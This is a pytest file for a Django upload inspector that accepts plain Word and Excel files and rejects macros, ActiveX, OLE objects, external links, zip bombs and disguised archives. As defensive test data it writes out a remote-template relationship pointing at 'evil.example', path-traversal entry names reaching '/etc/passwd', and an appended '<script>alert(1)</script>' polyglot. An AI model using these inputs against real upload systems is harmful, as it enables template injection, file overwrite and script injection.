"""Office documents: kept when they only hold text, refused when anything in them could act or reach out."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from docx import Document
from openpyxl import Workbook

from qatysu.core.errors import Invalid
from qatysu.files.commands import accept_upload, location
from qatysu.files.models import StoredFile
from qatysu.files.office import inspect
from tests import factories

pytestmark = pytest.mark.django_db


def xlsx() -> bytes:
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def docx() -> bytes:
    out = io.BytesIO()
    made = Document()
    made.add_paragraph("Хат")
    made.save(out)
    return out.getvalue()


def with_part(body: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(body)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def upload(body: bytes, name: str) -> StoredFile:
    file = SimpleUploadedFile(name, body, "application/octet-stream")
    return accept_upload(owner=factories.make_account(), upload=file, now=timezone.now(), allow_office=True)


@pytest.mark.parametrize(("make", "ending"), [(xlsx, ".xlsx"), (docx, ".docx")])
def test_plain_documents_are_kept_byte_for_byte(make: object, ending: str) -> None:
    body = make()  # type: ignore[operator]  # reason: one of two functions

    stored = upload(body, "хат.bin")

    assert (stored.kind, stored.path.endswith(ending), stored.name) == ("document", True, f"хат{ending}")
    assert location(stored.path).read_bytes() == body


def test_they_are_refused_where_nobody_asked_for_them() -> None:
    file = SimpleUploadedFile("a.docx", docx())

    with pytest.raises(Invalid, match="file_type"):
        accept_upload(owner=factories.make_account(), upload=file, now=timezone.now())


_REL = (
    b'<Relationships><Relationship Id="x" Type="http://x/relationships/%s" Target="http://evil.example/t" '
    b'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("xl/vbaProject.bin", b"x", "office_macros"),
        ("xl/macrosheets/sheet1.xml", b"x", "office_macros"),
        ("word/activeX/activeX1.xml", b"x", "office_macros"),
        ("word/embeddings/oleObject1.bin", b"x", "office_macros"),
        ("xl/externalLinks/externalLink1.xml", b"x", "office_links"),
        ("xl/connections.xml", b"x", "office_links"),
        ("word/_rels/settings.xml.rels", _REL % b"attachedTemplate", "office_links"),
        ("xl/../../etc/passwd", b"x", "archive_path"),
        ("/etc/passwd", b"x", "archive_path"),
        ("xl/zeros.xml", b"0" * 60_000_000, "archive_too_large"),
        ("XL/WORKBOOK.XML", b"x", "archive_twice"),
    ],
)
def test_what_acts_reaches_out_or_explodes_is_refused(name: str, content: bytes, reason: str) -> None:
    with pytest.raises(Invalid, match=reason):
        inspect(with_part(xlsx(), name, content))


def test_links_to_be_clicked_are_fine() -> None:
    assert inspect(with_part(docx(), "word/_rels/more.xml.rels", _REL % b"hyperlink"))[1] == ".docx"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (xlsx() + b"<script>alert(1)</script>", "archive_disguised"),
        (b"\xff\xd8\xff" + xlsx(), "file_broken|file_type"),
        (b"PK\x03\x04", "archive_broken"),
        (xlsx()[:-200], "archive_broken"),
        (b"<html>", "file_type"),
    ],
)
def test_two_files_in_one_and_pieces_of_files_are_refused(body: bytes, reason: str) -> None:
    with pytest.raises(Invalid, match=reason):
        upload(body, "a.xlsx")
    assert StoredFile.objects.count() == 0


def test_a_zip_that_is_no_document_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "a")

    with pytest.raises(Invalid, match="file_type"):
        upload(out.getvalue(), "a.docx")
